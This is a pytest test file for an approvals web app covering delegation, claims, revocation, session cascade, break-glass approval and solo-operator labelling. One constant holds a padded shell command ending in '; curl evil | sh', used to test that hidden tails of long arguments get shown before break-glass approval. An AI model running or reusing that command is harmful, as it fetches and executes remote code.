"""What a call's page offers besides yes and no, and what it tells those who may not decide."""

import html
import json
import re
from collections.abc import Callable, Sequence

import pytest
from sqlalchemy import update

from tests.plugins.desk import Browser, FileCall, House, SignedIn, TestClock
from tests.plugins.rules import Desk
from webui.approvals.authorization.reasons import DELEGATOR_INVOLVED
from webui.approvals.people import delegations, persons
from webui.approvals.people.standing import By
from webui.store.ids import new_id
from webui.store.models import Delegation, Model, Org, PermissionGrant, User, WebSession
from webui.store.queries import events
from webui.store.queries.delegations import delegations_of
from webui.store.store import Store
from webui.store.transaction import Transaction

LONG = {"command": "ls" + " " * 3000 + "; curl evil | sh"}
HOUR = 3_600_000
Prepare = Callable[[Desk, House], str]


def page_of(browser: Browser, approval_id: str) -> str:
    return browser.get(f"/approvals/{approval_id}").get_data(as_text=True)


def change(store: Store, model: type[Model], row_id: str, **columns: object) -> None:
    statement = update(model).where(model.id == row_id).values(**columns)  # type: ignore[attr-defined]
    store.write(lambda tx: tx.execute(statement) and None)


def actions(store: Store, house: House, approval_id: str) -> list[str]:
    with store.reading() as session:
        about = events.about(session, house.org_id, f"approval:{approval_id}")
        return [event.action for event in about]


def told(store: Store, house: House, approval_id: str) -> dict[str, object]:
    with store.reading() as session:
        last = events.about(session, house.org_id, f"approval:{approval_id}")[-1]
    payload: dict[str, object] = json.loads(last.payload or b"{}")
    return payload


# ---- Why not


def grant(desk: Desk, user_id: str, scope: dict[str, object]) -> None:
    def give(tx: Transaction) -> None:
        tx.session.add(
            PermissionGrant(
                id=new_id("grt", tx.now),
                org_id=desk.house.org_id,
                principal_type="user",
                principal_id=user_id,
                permission="approvals:decide",
                scope=json.dumps(scope),
                created_by="system",
                created_at=tx.now,
            )
        )
        tx.session.flush()

    desk.store.write(give)


def delegate(desk: Desk, giver: str, email: str) -> None:
    until = desk.clock.now() + HOUR
    desk.store.write(
        lambda tx: delegations.delegate(tx, desk.house.org_id, giver, email, until=until)
    )


def undo_within(desk: Desk, seconds: int) -> None:
    statement = update(Org).where(Org.id == desk.house.org_id).values(undo_seconds=seconds)
    desk.store.write(lambda tx: tx.execute(statement) and None)


def two_of(desk: Desk, **more: object) -> str:
    approval_id = desk.submit(**more).approval.id  # type: ignore[arg-type]
    desk.demand(approval_id, approvals_required=2)
    return approval_id


def on_behalf(desk: Desk, house: House) -> str:
    return desk.submit(on_behalf_of=house.vi.email).approval.id


def owned(desk: Desk, house: House) -> str:
    change(desk.store, User, house.bo.id, person_id=house.vi.id)
    return desk.submit(house.deploy_bot).approval.id


def own_run(desk: Desk, house: House) -> str:
    return desk.submit(triggered_by=house.vi.id).approval.id


def not_granted(desk: Desk, house: House) -> str:
    return desk.submit().approval.id


def too_risky(desk: Desk, house: House) -> str:
    grant(desk, house.vi.id, {"max_risk": "low"})
    return desk.submit().approval.id


def elsewhere(desk: Desk, house: House) -> str:
    grant(desk, house.vi.id, {"projectId": "prj_other"})
    return desk.submit().approval.id


def by_chat_only(desk: Desk, house: House) -> str:
    grant(desk, house.vi.id, {"channel": "chat"})
    return desk.submit().approval.id


def for_somebody_involved(desk: Desk, house: House) -> str:
    delegate(desk, house.bo.id, house.vi.email)
    return desk.submit(house.deploy_bot).approval.id


def decided_by_delegator(desk: Desk, house: House) -> str:
    delegate(desk, house.bo.id, house.vi.email)
    approval_id = two_of(desk)
    desk.decide(house.bo, approval_id)
    return approval_id


def decided(desk: Desk, house: House) -> str:
    grant(desk, house.vi.id, {})
    approval_id = two_of(desk)
    desk.decide(house.vi, approval_id)
    return approval_id


def decided_by_other_account(desk: Desk, house: House) -> str:
    org = house.org_id
    desk.store.write(
        lambda tx: persons.same_person(tx, org, By(), house.vi.id, house.bo.id)
    )
    grant(desk, house.vi.id, {})
    approval_id = two_of(desk)
    desk.decide(house.bo, approval_id)
    return approval_id


def decided_by_delegate(desk: Desk, house: House) -> str:
    grant(desk, house.vi.id, {})
    delegate(desk, house.vi.id, house.ed.email)
    approval_id = two_of(desk)
    desk.decide(house.ed, approval_id)
    return approval_id


def by_an_agent(desk: Desk, house: House) -> str:
    grant(desk, house.vi.id, {})
    statement = update(WebSession).values(agent_context=True)
    desk.store.write(lambda tx: tx.execute(statement) and None)
    return desk.submit().approval.id


def settled(desk: Desk, house: House) -> str:
    return desk.approved()


@pytest.mark.parametrize(
    ("prepare", "sentence"),
    [
        (on_behalf, "The agent acts on your behalf here, so somebody else has to decide."),
        (owned, "You own the agent that made this call, so somebody else has to decide."),
        (
            own_run,
            "You started the run that made this call, so somebody else has to decide.",
        ),
        (not_granted, "Missing permission: approvals:decide."),
        (too_risky, "The grant of approvals:decide ends below the risk of this call."),
        (elsewhere, "The grant of approvals:decide does not cover this."),
        (
            by_chat_only,
            "The grant of approvals:decide does not hold on the way you came by.",
        ),
        (for_somebody_involved, DELEGATOR_INVOLVED.sentence),
        (
            decided_by_delegator,
            "Who made you their delegate has decided this call already; it waits for others.",
        ),
        (decided, "You have approved this call; it waits for others."),
        (
            decided_by_other_account,
            "You have approved this call by another account of yours; it waits for others.",
        ),
        (
            decided_by_delegate,
            "Ed has approved this call in your place; it waits for others.",
        ),
        (
            by_an_agent,
            "This session belongs to an agent acting for you; sign in yourself to decide.",
        ),
        (settled, "Nothing is left to decide. Rae approved it."),
    ],
)
@pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
def test_who_may_not_decide_reads_one_true_sentence(
    desk: Desk, house: House, signed_in: SignedIn, prepare: Prepare, sentence: str
) -> None:
    browser = signed_in(house.vi)
    approval_id = prepare(desk, house)
    page = page_of(browser, approval_id)
    found = re.findall(r'class="decide__why">.*?<span>(.*?)</span>', page, re.DOTALL)
    assert [html.unescape(each) for each in found] == [sentence]
    mends = "An admin of this organization can give it to you: a role under People" in page
    assert mends == sentence.startswith("Missing permission")
    assert re.search('id="confirm-(approve|deny|respond)"', page) is None
    csrf = {"csrf_token": browser.csrf_token(), "seal": "0" * 64, "verdict": "deny"}
    answer = browser.post(f"/approvals/{approval_id}/decide", data=csrf)
    assert answer.status_code in {403, 409}


# ---- In somebody's place


@pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
def test_a_delegate_reads_for_whom_they_decide_and_everybody_who_did(
    desk: Desk, house: House, signed_in: SignedIn
) -> None:
    delegate(desk, house.bo.id, house.vi.email)
    undo_within(desk, 30)
    browser, approval_id = signed_in(house.vi), desk.submit().approval.id
    page = page_of(browser, approval_id)
    assert "You decide for <bdi>Bo</bdi>, whose delegate you are until" in page
    assert "You decide for" not in page_of(signed_in(house.rae), approval_id)
    seal = re.search('name="seal" value="([0-9a-f]{64})"', page)
    assert seal is not None
    form = {"version": "1", "seal": seal[1], "verdict": "deny", "reason": "No."}
    answer = browser.send(f"/approvals/{approval_id}/decide", **form)
    assert answer.status_code in {200, 303}
    said = "<bdi>Vi</bdi> in place of <bdi>Bo</bdi>"
    assert said in page_of(signed_in(house.rae), approval_id)
    assert "Undo" in page_of(browser, approval_id)
    assert "You decide for" not in page_of(browser, approval_id)
    desk.clock.advance(31_000)
    assert said in page_of(signed_in(house.rae), approval_id)
    assert "You decide for" not in page_of(browser, approval_id)


@pytest.mark.parametrize("ending", ["ended", "over", "suspended"])
@pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
def test_a_delegation_that_ended_after_the_page_was_shown_lends_nothing(
    desk: Desk, house: House, signed_in: SignedIn, store: Store, ending: str
) -> None:
    delegate(desk, house.bo.id, house.vi.email)
    browser, approval_id = signed_in(house.vi), desk.submit().approval.id
    seal = re.search('name="seal" value="([0-9a-f]{64})"', page_of(browser, approval_id))
    assert seal is not None
    with store.reading() as session:
        [given] = delegations_of(session, house.org_id, [house.bo.id], desk.clock.now())
    if ending == "ended":
        change(store, Delegation, given.id, ended_at=desk.clock.now())
    elif ending == "over":
        change(store, Delegation, given.id, until=desk.clock.now())
    else:
        change(store, User, house.bo.id, status="suspended")
    form = {"version": "1", "seal": seal[1], "verdict": "deny", "reason": "No."}
    answer = browser.send(f"/approvals/{approval_id}/decide", **form)
    assert answer.status_code == 403
    assert "approval.decided" not in actions(store, house, approval_id)
    assert "You decide for" not in page_of(browser, approval_id)


# ---- Claim


def test_a_claim_shows_on_page_and_row_and_is_taken_over_in_sight(
    signed_in: SignedIn, house: House, file_call: FileCall, store: Store
) -> None:
    rae, ana, approval_id = signed_in(house.rae), signed_in(house.ana), file_call()
    path = f"/approvals/{approval_id}"
    assert rae.send(f"{path}/claim").status_code == 303
    for page in (page_of(ana, approval_id), ana.get("/").get_data(as_text=True)):
        assert "claimed by" in page
        assert "<bdi>Rae</bdi>" in page
    assert "Take over" in page_of(ana, approval_id)
    assert "Let go" in page_of(rae, approval_id)
    ana.send(f"{path}/claim")
    assert "claimed by <b><bdi>Ana</bdi></b>" in page_of(rae, approval_id)
    assert rae.send(f"{path}/release").status_code == 409
    ana.send(f"{path}/release")
    assert "claimed by" not in page_of(rae, approval_id)
    assert actions(store, house, approval_id).count("approval.claimed") == 2


def test_a_script_gets_the_claimed_call_in_place(
    signed_in: SignedIn, house: House, file_call: FileCall
) -> None:
    rae, approval_id = signed_in(house.rae), file_call()
    answer = rae.post(
        f"/approvals/{approval_id}/claim",
        data={"csrf_token": rae.csrf_token()},
        headers={"HX-Request": "true"},
    )
    text = answer.get_data(as_text=True)
    assert text.lstrip().startswith('<article class="call" id="detail"')
    assert 'data-claim="Rae"' in text


def test_who_may_not_decide_has_no_button_to_claim(
    signed_in: SignedIn, house: House, file_call: FileCall
) -> None:
    vi, approval_id = signed_in(house.vi), file_call()
    assert "/claim" not in page_of(vi, approval_id)
    answer = vi.send(f"/approvals/{approval_id}/claim")
    assert answer.status_code == 403
    assert "Missing permission: approvals:decide." in answer.get_data(as_text=True)


# ---- Revoke


def test_a_yes_is_taken_back_on_its_page_with_the_reason_for_all_to_read(
    desk: Desk, signed_in: SignedIn, house: House
) -> None:
    approval_id, rae = desk.approved(), signed_in(house.rae)
    assert f"/approvals/{approval_id}/revoke" in page_of(rae, approval_id)
    assert "/revoke" not in page_of(signed_in(house.vi), approval_id)
    answer = rae.send(f"/approvals/{approval_id}/revoke", reason="The wrong host")
    assert answer.status_code == 303
    page = page_of(signed_in(house.vi), approval_id)
    assert "The approval was taken back before it was used." in page
    assert "The wrong host" in page
    assert "/revoke" not in page


def test_a_yes_in_use_is_not_taken_back(
    desk: Desk, signed_in: SignedIn, house: House
) -> None:
    approval_id, rae = desk.approved(), signed_in(house.rae)
    desk.use(approval_id)
    answer = rae.send(f"/approvals/{approval_id}/revoke")
    assert answer.status_code == 409
    assert "There is no yes left to take back." in answer.get_data(as_text=True)


# ---- Session cascade


def test_a_no_takes_the_session_along_where_it_is_ticked(
    desk: Desk,
    signed_in: SignedIn,
    house: House,
    decide_form: Callable[..., dict[str, str]],
) -> None:
    ids = [desk.submit(session="s", arguments={"n": n}).approval.id for n in range(3)]
    rae, path = signed_in(house.rae), f"/approvals/{ids[0]}"
    assert "Also deny the 2 other waiting calls of this session" in page_of(rae, ids[0])
    form = decide_form(rae, path, "deny")
    rae.post(f"{path}/decide", data=form | {"cascade": "1", "reason": "Stop"})
    assert [desk.status(each) for each in ids] == ["denied"] * 3
    assert desk.row(ids[1]).resolution == "cascade"
    assert desk.told(ids[1])["because_of"] == ids[0]
    page = page_of(rae, ids[1])
    assert "It was denied together with another call of its session." in page


# ---- Break-glass


GLASS = "Break glass: approve past the quorum"


@pytest.fixture
def urgent(desk: Desk) -> str:
    """A call that needs two approvals."""
    return two_of(desk, expires_in=HOUR)


def glass_form(browser: Browser, path: str) -> dict[str, str]:
    page = browser.get(path).get_data(as_text=True)
    start = page.index(GLASS)
    fields = re.findall(
        r'<input type="hidden" name="(\w+)" value="([^"]*)">',
        page[start : page.index("</form>", start)],
    )
    return dict(fields)


def break_glass(
    browser: Browser, approval_id: str, reason: str = "The site is down"
) -> int:
    path = f"/approvals/{approval_id}"
    form = glass_form(browser, path)
    return browser.post(f"{path}/decide", data=form | {"reason": reason}).status_code


def test_only_who_holds_it_sees_the_glass_apart_from_the_ordinary_form(
    signed_in: SignedIn, house: House, urgent: str
) -> None:
    page = page_of(signed_in(house.ana), urgent)
    details = page[page.index('<details class="aside aside--glass">') :]
    assert GLASS in details
    assert "Every admin of the organization is told now" in details
    for member in (house.rae, house.vi):
        assert GLASS not in page_of(signed_in(member), urgent)


def test_where_an_ordinary_yes_does_it_there_is_no_glass(
    signed_in: SignedIn, house: House, file_call: FileCall
) -> None:
    assert GLASS not in page_of(signed_in(house.ana), file_call())


def test_broken_glass_approves_past_quorum_and_is_marked_everywhere(
    signed_in: SignedIn, house: House, urgent: str, store: Store, desk: Desk
) -> None:
    ana = signed_in(house.ana)
    assert break_glass(ana, urgent) == 303
    row = desk.row(urgent)
    assert (row.status, row.break_glass, row.resolution) == (
        "approved",
        True,
        "break_glass",
    )
    assert actions(store, house, urgent)[-2:] == [
        "approval.decided",
        "approval.break_glass",
    ]
    assert "Approved by break-glass." in page_of(signed_in(house.vi), urgent)
    assert "break-glass" in signed_in(house.vi).get("/history").get_data(as_text=True)
    with store.reading() as session:
        about = events.about(session, house.org_id, f"approval:{urgent}")
    (payload,) = [event.payload for event in about if event.action == "approval.decided"]
    assert json.loads(payload or b"{}")["break_glass"] is True


def test_who_runs_the_org_is_told_for_a_day_and_nobody_else(
    signed_in: SignedIn, house: House, urgent: str, clock: TestClock
) -> None:
    ana, rae = signed_in(house.ana), signed_in(house.rae)
    break_glass(ana, urgent)
    for path in ("/", "/history", "/help"):
        page = ana.get(path).get_data(as_text=True)
        assert "by break-glass, past the quorum" in page
        assert f"/approvals/{urgent}" in page
        assert 'class="alarms"' not in rae.get(path).get_data(as_text=True)
    clock.advance(25 * HOUR)
    page = signed_in(house.ana).get("/history").get_data(as_text=True)
    assert 'class="alarms"' not in page


def test_glass_is_broken_with_a_reason_only(
    signed_in: SignedIn, house: House, urgent: str, desk: Desk
) -> None:
    assert break_glass(signed_in(house.ana), urgent, " ") == 422
    assert desk.status(urgent) == "pending"


def test_glass_asks_for_a_fresh_sign_in_whatever_the_risk(
    signed_in: SignedIn, house: House, urgent: str, desk: Desk, clock: TestClock
) -> None:
    ana = signed_in(house.ana)
    form = glass_form(ana, f"/approvals/{urgent}")
    clock.advance(15 * 60_000)
    page = page_of(ana, urgent)
    assert "proved who you are within the last 15 minutes" in page
    assert "Approve by break-glass" not in page
    form |= {"csrf_token": ana.csrf_token(), "reason": "now"}
    answer = ana.post(f"/approvals/{urgent}/decide", data=form)
    assert answer.status_code == 403
    assert "Break-glass asks that you proved who you are" in answer.get_data(as_text=True)
    assert desk.status(urgent) == "pending"


def test_glass_over_a_long_call_is_broken_at_its_end_only(
    signed_in: SignedIn, house: House, desk: Desk
) -> None:
    approval_id, ana = two_of(desk, arguments=LONG), signed_in(house.ana)
    page = page_of(ana, approval_id)
    assert "Break-glass asks for the full arguments first." in page
    path = f"/approvals/{approval_id}"
    form = glass_form(ana, f"{path}/full") | {"reason": "now"}
    without = {name: value for name, value in form.items() if name != "nonce"}
    assert ana.post(f"{path}/decide", data=without).status_code == 403
    assert ana.post(f"{path}/decide", data=form).status_code == 303
    assert desk.status(approval_id) == "approved"


def test_who_voted_already_may_still_break_the_glass(
    signed_in: SignedIn, house: House, urgent: str, desk: Desk
) -> None:
    desk.decide(house.ana, urgent)
    assert break_glass(signed_in(house.ana), urgent) == 303
    assert desk.status(urgent) == "approved"


def test_separation_of_duties_holds_for_the_glass_too(
    signed_in: SignedIn, house: House, urgent: str, desk: Desk
) -> None:
    ana = signed_in(house.ana)
    form = glass_form(ana, f"/approvals/{urgent}") | {"reason": "mine"}
    desk.demand(urgent, on_behalf_of=house.ana.id)
    assert GLASS not in page_of(ana, urgent)
    assert ana.post(f"/approvals/{urgent}/decide", data=form).status_code == 403
    assert desk.status(urgent) == "pending"


# ---- Working alone


def test_an_org_that_works_alone_says_so_wherever_it_decides(
    signed_in: SignedIn, house: House, desk: Desk, store: Store
) -> None:
    change(store, Org, house.org_id, solo_operator=True)
    approval_id = desk.submit(house.deploy_bot).approval.id
    bo = signed_in(house.bo)
    queue = bo.get("/").get_data(as_text=True)
    assert "This organization works alone: people may decide calls" in queue
    assert "works alone</span>" in queue
    desk.decide(house.bo, approval_id)
    assert told(store, house, approval_id)["solo"] is True
    page = page_of(bo, approval_id)
    assert "<strong>This organization works alone.</strong>" in page
    assert "works alone</div>" in bo.get("/history").get_data(as_text=True)


def test_an_org_of_several_says_nothing_of_the_kind(
    signed_in: SignedIn, house: House, desk: Desk, store: Store
) -> None:
    approval_id, rae = desk.approved(), signed_in(house.rae)
    assert told(store, house, approval_id)["solo"] is False
    pages: Sequence[str] = ("/", "/history", f"/approvals/{approval_id}")
    assert not any("works alone" in rae.get(path).get_data(as_text=True) for path in pages)
